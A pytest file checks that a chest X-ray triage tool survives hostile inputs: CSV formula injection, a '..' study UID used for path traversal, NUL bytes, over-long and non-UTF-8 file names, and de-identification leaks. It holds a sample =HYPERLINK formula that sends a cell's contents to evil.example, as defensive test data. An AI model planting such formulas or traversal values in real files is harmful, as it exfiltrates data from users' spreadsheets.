"""Issue 11, the output rows: hostile or clumsy inputs must not abort a run, break an artefact, mislead a spreadsheet,
leak an identity or put a raw value on the terminal. One test per row, each built from the issue's recipe.

Rows 2 (non-UTF-8 file name at the writer), 9 (formula cells), 10 (--deidentify), 11 (malformed DA/PN with --dicom),
12 (244-character file name with --heatmaps), 14 (StudyInstanceUID ".."), and from "Also": NUL bytes from DICOM values
in results.csv and the HTML, pydicom warnings quoting raw values on stderr with --dicom.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import warnings
from html import unescape
from pathlib import Path

import numpy as np
import pydicom
import pytest
from factories import make_tiny_classifier, make_tiny_segmenter, require_tool, write_dicom, write_textured_png
from report_fixtures import dciodvfy
from typer.testing import CliRunner

from cxrtriage.cli.app import app
from cxrtriage.results import UNDECODABLE_NOTE, read_results
from cxrtriage.results.cells import FORMULA_START

KEY = "a-site-secret-of-sixteen+"
FORMULA_UID = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _pixels(seed: int = 1, size: int = 64) -> np.ndarray:
    rng = np.random.default_rng(seed)
    xx = np.mgrid[0:size, 0:size][1]
    return np.clip(800 + 2400 * np.sin(np.pi * xx / size) + rng.normal(0, 150, (size, size)), 0, 4095).astype(np.uint16)


def _dicom(path: Path, size: int = 64, **attrs: object) -> Path:
    with warnings.catch_warnings():  # pydicom warns as the hostile values are set: they are the point here
        warnings.simplefilter("ignore")
        return write_dicom(path, rows=size, cols=size, pixels=_pixels(size=size), **attrs)


@pytest.fixture(scope="module")
def models(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("models")
    return make_tiny_classifier(root / "clf"), make_tiny_segmenter(root / "seg", seed=6)


def _predict(inputs: Path, out: Path, models: tuple[Path, Path], *extra: str) -> tuple[int, str]:
    lungs = "--no-lungs" not in extra and any(o in extra for o in ("--report", "--lungs", "--dicom", "--send"))
    segmenter = ["--segmenter", str(models[1])] if lungs else []  # refused where no lungs are computed
    args = ["predict", str(inputs), "--out", str(out), "--model", str(models[0]), *segmenter, "--workers", "0", *extra]
    result = CliRunner().invoke(app, args, terminal_width=200)
    return result.exit_code, result.output


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"))))


def _page_text(page: str) -> str:
    """An HTML page without its inlined picture payloads, character references decoded."""
    return unescape(re.sub(r"(data:[\w.+-]+/[\w.+-]+;base64,)[A-Za-z0-9+/=\s]*", r"\1", page))


# --------------------------------------------------------------------------- row 9


def _unguarded(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula (numbers excepted)."""
    return [c for r in rows for c in r if c[:1] in FORMULA_START - {"'"} and not re.fullmatch(r"[+-]?[\d.eE+-]+", c)]


@pytest.mark.slow
def test_row9_no_cell_of_any_csv_runs_as_a_formula(tmp_path: Path, models: tuple[Path, Path]) -> None:
    scans = tmp_path / "scans"
    _dicom(scans / "uid.dcm", study_uid=FORMULA_UID)
    write_textured_png(scans / "=1+1.png", 64, 64, seed=3)
    out = tmp_path / "out"
    code, output = _predict(scans, out, models)
    assert code == 0, output
    for name in ("results.csv", "worklist.csv"):
        rows = _cells(out / name)
        assert _unguarded(rows) == [], name
        assert any(c == "'" + FORMULA_UID for r in rows for c in r), name  # shown as text, not dropped
    table = read_results(out / "results.csv")  # and read back as it was
    assert {Path(r.path).name for r in table.records} == {"uid.dcm", "=1+1.png"}
    assert FORMULA_UID in {r.study_instance_uid for r in table.records}
    # segment.csv and explain.csv follow the same rule
    code, output = CliRunner().invoke(app, ["segment", str(scans), "--out", str(tmp_path / "seg"), "--model",
                                            str(models[1]), "--workers", "0"]).exit_code, ""
    assert code == 0
    assert _unguarded(_cells(tmp_path / "seg" / "segment.csv")) == []
    result = CliRunner().invoke(app, ["explain", str(scans), "--out", str(tmp_path / "exp"), "--model", str(models[0]),
                                      "--label", "effusion"])
    assert result.exit_code == 0, result.output
    rows = _cells(tmp_path / "exp" / "explain.csv")
    assert _unguarded(rows) == [] and any(c.endswith("'=1+1.png") or "=1+1.png" in c for r in rows for c in r)


# --------------------------------------------------------------------------- row 2


def test_row2_a_file_name_that_is_not_utf8_gets_its_row(tmp_path: Path, models: tuple[Path, Path]) -> None:
    """A Latin-1 byte in a file name aborted the writer (UnicodeEncodeError, no results.csv). A DICOM file is used:
    the OpenCV read of such names is another row's fix."""
    scans = tmp_path / "scans"
    _dicom(scans / "good.dcm")
    latin1 = Path(os.fsdecode(os.fsencode(scans) + b"/M\xfcller.dcm"))
    _dicom(latin1)
    out = tmp_path / "out"
    code, output = _predict(scans, out, models, "--report", "--no-pdf")
    assert code == 0, output
    for name in ("results.csv", "results.jsonl", "worklist.csv"):
        (out / name).read_bytes().decode("utf-8")  # valid UTF-8 throughout
    rows = {Path(r[0]).name: r for r in _cells(out / "results.csv")[1:]}
    assert set(rows) == {"good.dcm", "M\\xfcller.dcm"}  # one row per file, the byte written as \xfc
    assert rows["M\\xfcller.dcm"][1] == "scored" and rows["M\\xfcller.dcm"][2].endswith(UNDECODABLE_NOTE)
    for name in ("results.csv", "results.jsonl"):  # lossless: the path reads back as the file's own name
        records = {r.path: r for r in read_results(out / name).records}
        assert str(latin1) in records and UNDECODABLE_NOTE not in (records[str(latin1)].reason or "")
    pages = "".join(p.read_text(encoding="utf-8") for p in (out / "report").glob("*.html"))
    assert "M\\xfcller.dcm" in pages  # the report shows the name, byte escaped


# --------------------------------------------------------------------------- row 10


@pytest.mark.slow
def test_row10_deidentified_reports_name_no_file_and_need_a_site_key(
        tmp_path: Path, models: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "scans" / "DOE_JOHN_MRN004711"
    uid = "1.2.826.0.1.3680043.8.498.4711"
    ident = {"PatientName": "Doe^John", "PatientID": "004711", "PatientBirthDate": "19450607", "StudyDate": "20250310",
             "AccessionNumber": "ACC4711", "StudyDescription": "Doe John follow-up 004711"}
    _dicom(folder / "DOE_JOHN_MRN004711_pa.dcm", size=256, study_uid=uid, **ident)  # big enough to be assessed
    _dicom(folder / "DOE_JOHN_MRN004711_lat.dcm", study_uid=uid, view="LL", **ident)
    (folder / "DOE_JOHN_MRN004711_broken.dcm").write_bytes(b"\x00" * 10)
    out = tmp_path / "out"

    monkeypatch.delenv("CXRTRIAGE_PSEUDONYM_KEY", raising=False)  # no key of the site: refused before any work
    code, output = _predict(folder.parent, out, models, "--report", "--deidentify")
    assert code == 4 and "CXRTRIAGE_PSEUDONYM_KEY" in output and not out.exists()

    monkeypatch.setenv("CXRTRIAGE_PSEUDONYM_KEY", KEY)
    code, output = _predict(folder.parent, out, models, "--report", "--deidentify")
    assert code == 0, output
    pages = {p.name: _page_text(p.read_text(encoding="utf-8")) for p in (out / "report").glob("*.html")}
    exe = require_tool("pdftotext")
    for pdf in (out / "report").glob("*.pdf"):
        pages[pdf.name] = subprocess.run([exe, str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    blob = "\n".join(pages.values())
    for leak in ("DOE", "Doe", "JOHN", "004711", "MRN", "follow-up", "ACC4711", "1945", "2025-03-10", uid,
                 str(tmp_path)):
        assert leak not in blob, leak
    study = next(t for n, t in pages.items() if n.endswith(".html") and n != "index.html" and "image 2" in t)
    assert re.search(r"\[image \d\]", study)  # the study's priority reason names the deciding image, not its file
    assert "removed (de-identified)" in study
    # what --deidentify does not cover, as documented: the results tables keep the paths
    assert "DOE_JOHN_MRN004711_pa.dcm" in (out / "results.csv").read_text(encoding="utf-8")


# --------------------------------------------------------------------------- row 12


def test_row12_a_244_character_file_name_keeps_every_heat_map(tmp_path: Path, models: tuple[Path, Path]) -> None:
    scans = tmp_path / "scans"
    long_name = "x" * 240 + ".dcm"
    assert len(long_name) == 244
    for name in ("a.dcm", long_name, "b.dcm"):
        _dicom(scans / name)
    out = tmp_path / "out"
    code, output = _predict(scans, out, models, "--heatmaps", "--no-lungs")
    assert code == 0, output
    table = read_results(out / "results.csv")
    assert len(table) == 3 and all(r.scored for r in table.records)
    for r in table.records:
        assert r.heatmaps, (r.path, r.reason)  # the tiny model flags findings on these images
        assert "not written" not in (r.reason or "")
        for rel in r.heatmaps:
            assert (out / rel).is_file() and len((out / rel).name.encode()) <= 255
    stems = {Path(h).name.split("__")[0] for r in table.records for h in r.heatmaps or ()}
    assert len(stems) == 3


# --------------------------------------------------------------------------- rows 11, 14 and "Also"


@pytest.fixture(scope="module")
def dicom_run(tmp_path_factory: pytest.TempPathFactory, models: tuple[Path, Path],
              repo_root: Path) -> tuple[Path, str, str]:
    """``predict --dicom`` in a real process (stderr as a user sees it) on three hostile DICOM files."""
    root = tmp_path_factory.mktemp("dicom_run")
    scans = root / "scans"
    _dicom(scans / "row11.dcm", PatientBirthDate="1945-06-07", PatientName="Doe\\John", PatientID="PID-11",
           StudyDate="20250310", StudyTime="101500", AccessionNumber="A11", ReferringPhysicianName="", StudyID="1")
    _dicom(scans / "row14.dcm", study_uid="..")
    _dicom(scans / "nul.dcm", study_uid="1.2.3\x00.4", StudyDescription="XR\x00CHEST", PatientID="PID\x00NUL")
    out = root / "out"
    env = {k: v for k, v in os.environ.items() if k != "CXRTRIAGE_PSEUDONYM_KEY"} | {"COLUMNS": "200"}
    proc = subprocess.run([sys.executable, "-m", "cxrtriage", "predict", str(scans), "--out", str(out), "--model",
                           str(models[0]), "--segmenter", str(models[1]), "--dicom", "--workers", "0"],
                          cwd=repo_root, capture_output=True, text=True, env=env, timeout=600)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return out, proc.stdout, proc.stderr


def _study_dir(out: Path, source: str) -> Path:
    uid = str(pydicom.dcmread(out.parent / "scans" / source, stop_before_pixels=True).StudyInstanceUID)
    return out / "dicom" / uid


@pytest.mark.slow
def test_row11_malformed_da_and_pn_leave_dicom_results_valid_and_complete(dicom_run: tuple[Path, str, str]) -> None:
    out, stdout, stderr = dicom_run
    folder = _study_dir(out, "row11.dcm")
    written = sorted(p.name for p in folder.glob("*.dcm"))
    assert written == ["report_pdf.dcm", "sc_001.dcm", "seg_001.dcm", "sr_001.dcm"]
    for f in folder.glob("*.dcm"):
        errors, _ = dciodvfy(f)
        assert errors == [], f"{f.name}: {errors}"
        ds = pydicom.dcmread(f, stop_before_pixels=True)
        assert ds.PatientBirthDate == "" and ds.PatientName == ""  # Type 2: present and empty
        assert ds.PatientID == "PID-11" and ds.StudyDate == "20250310" and ds.AccessionNumber == "A11"  # the valid ones
    index = (out / "report" / "index.html").read_text(encoding="utf-8")
    assert "invalid source values left out of the DICOM results: PatientBirthDate (DA), PatientName (PN)" in index
    for text in (stdout, stderr):
        assert "1945" not in text and "Doe" not in text and "John" not in text


@pytest.mark.slow
def test_row14_a_dot_dot_study_uid_names_nothing_outside_its_folder(dicom_run: tuple[Path, str, str]) -> None:
    out, _, stderr = dicom_run
    assert sorted(p.name for p in out.iterdir() if p.is_file()) == [
        "results.csv", "results.jsonl", "run.json", "worklist.csv"]  # nothing written straight into OUT/
    reports = sorted(p.name for p in (out / "report").iterdir())
    assert not [n for n in reports if n.startswith(".") or n.startswith("..")]
    for folder in (out / "dicom").iterdir():
        assert folder.is_dir() and folder.name not in (".", "..")
    rows = {Path(r.path).name: r for r in read_results(out / "results.jsonl").records}
    assert rows["row14.dcm"].study_key == ".."  # the key itself is kept: only the names built from it change
    assert any(n.startswith("study-") and n.endswith(".html") for n in reports)
    assert "StudyInstanceUID is not a valid UID" in stderr and "'..'" not in stderr


@pytest.mark.slow
def test_nul_bytes_from_dicom_values_reach_no_output(dicom_run: tuple[Path, str, str]) -> None:
    out, _, _ = dicom_run
    files = [out / n for n in ("results.csv", "results.jsonl", "worklist.csv")]
    files += [*(out / "report").glob("*.html")]
    for f in files:
        text = f.read_bytes().decode("utf-8")
        assert "\x00" not in text and "\\u0000" not in text, f.name
    rows = {Path(r.path).name: r for r in read_results(out / "results.jsonl").records}
    assert rows["nul.dcm"].study_instance_uid == "1.2.3\ufffd.4"
    assert json.loads((out / "results.jsonl").read_text().splitlines()[0])["path"]


@pytest.mark.slow
def test_dicom_libraries_print_no_raw_value_on_stderr(dicom_run: tuple[Path, str, str]) -> None:
    _, stdout, stderr = dicom_run
    for text in (stdout, stderr):
        assert "Invalid value for VR" not in text and "UserWarning" not in text
        assert "'..'" not in text and "1.2.3\\x00" not in text and "XR\\x00CHEST" not in text
